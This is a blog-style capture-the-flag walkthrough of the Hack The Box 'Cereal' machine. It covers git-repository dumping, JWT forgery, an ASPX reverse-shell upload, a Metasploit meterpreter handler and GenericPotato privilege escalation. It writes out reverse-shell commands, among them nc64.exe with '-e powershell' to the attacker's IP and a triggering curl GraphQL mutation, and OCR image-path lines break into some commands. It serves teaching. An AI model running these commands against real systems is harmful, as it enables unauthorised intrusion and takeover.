In this post, i would like to share walkthrough on Cereal Machine.

This room is been considered difficulty rated as Hard machine

Information Gathering

Once we have started the VPN connection, we can start information gathering on the machine by executing the command nmap -sC -sV <IP Address> -PN

Let’s open the browser and straight into the website interface.We are directed to a login page.

I have try to login using normal username and password which admin:admin

Let’s see the source code where it might stored something unusual there.

Let’s check the robots.txt if we can find any disallow directory mentioned there.

We need to see what stored subdomain of the machine. We found some server error on the subdomain.

Let’s run the gobuster to see any interesting directory

After a while, i notice there’s a directory called /.git

I’m quite curious about the /.git/ directory and let’s access that directory

Sadly, we found an “403 – Forbidden: Access is denied”

Gaining Access

During my research, i did found a tools such as GitTools can be read over here

You can download the GitTools by running the command git clone

We need to create /tmp/git and /tmp/src directory for us to proceed with next step.

Next, let’s run the command GitTools/Dumper/ https://source.cereal.htb/.git /tmp/git that shown in the screenshot above. However, we get an error saying “/.git/ missing in url which mean that we need to use /.git/ instead of /.git only

It will take a while for it to be completed.

We can extract the downloaded file by execute the command such as GitTools/Extractor/ /tmp/git /tmp/src which will extract everything in /tmp/git into /tmp/src

It will take a few second for it to be completed.

Once fully extracted, you can access the /tmp/src in order to see what is stored inside there.

Afteri have been scroll around the file, i notice there’s a Services Directory that might be useful to us.

There’s a file that called UserService.cs and we need to see what have been written inside in the file

While reading the source code, i notice that there’s secret key that will be useful later on.

We need to start using jwt_tool for those are keen to play with command line.

Maintaining Access

You should be typing those command to get the base64 but sadly for me, i cannot get the base64 hashes within my first try. Keep trying and you will get it

The encoded cookies will look something just like shown in the screenshot above.

We need to upload aspx reverse shell on the machine and let’s find one actual working aspx shell on the internet

An example of the aspx reverse shell can be seen as shown above

We are required to change the String host with our vpn host and int port with the port that we will use for the reverse shell.

After learning the programming with my friends, i have come out with the code above which the function of the code will upload the shell into the machine

On the same directory that stored and shell.aspx, we will start python listening which look something as above

We also need to start our nc listening

Let’s run the by execute the command “python3”

Let’s check our nc listener, it have return with reverse connection back to usFor us to read the user flag, we need to use windows command “type” which it’s different from linux machine.

Escalate to Root Privileges Access

We need to see any port open and privileges information by using the netstat -aon / findstr /i “listening” and whoami /all

We can use chisel to get port forwarding but i will use msfvenom instead to create a exploit which shown in the screenshot above.

We can use “ls -al” in order to see if the exploit is fully created.

We have to start sudo msfdb run in order to get a shell using metasploit.We need to execute the command as mentioned below:

  • use exploit/multi/handler
  • set payload windows/meterpreter/reverse_tcp
  • set LHOST <your vpn ip>
  • set LPORT <the port that you can key-in during the msfvenom activity>
  • run

On the victim’s machine, you need to create temp directory in order to transfer the exploit there.

For the exploit to run very well, we need to type the command .\temp\<filename of the exploit>

When we check back the metasploit, we have meterpreter shell and we can proceed with that

We can verify the privileges access that been given to us.

We should proceed with portfwd add as the screenshot shown above.

Let’s access the website by surfing using the URL localhost:8081

Nothing that we can use over here.

Let’s see the source code on the website and i notice that website is using graphql

Let’s searchsploit the service and we found nothing there. However, i found that the genericpotate can be exploited within the windows environment

The exploit can be found over here and we are required to download with some modifiation been made on the file

We can start the powershell on the victim’s machine.

We need to access the temp directory in order for the file to be successfully transferred.

We can see that darknite.exe is the only file that stored there for now.

Once we have modification on the file above, it’s adviseable to gather all three file within one folder

We can use“curl” command to replace “wget” command to transfer the file

We can clarify the file have been successfully transferred into the victim’s machine

We need to start the nc listener with the port 1337

On victim’s machine, we need to execute the command “.\GenericPotate.exe -p“C:\temp\nc64.exe” -a “<our VPN IP>:<port> -e powershell” -e HTTP -l 8889″

On the attacker’s machine, we need to execute the command below

curl -k -X “POST” -H “Content-Type:application/json” –data-binary ‘{“query”:”mutation{updatePlant(plantId:2, version:2.2, sourceURL:\”http://localhost:8889\”)}”}’‘http://localhost:8081/api/graphql’

When we lookback onthe nc listener, we got the connection back to us

Let’s check who are accesing the machine as.

We need to access the C:\Users\Administrator\Desktop in order to look and read the root flag in Windows Environment

The root flag are stored there and we need to execute the command “type root.txt” to get root flag


Happy Learning Guys!

Leave a Reply

Your email address will not be published. Required fields are marked *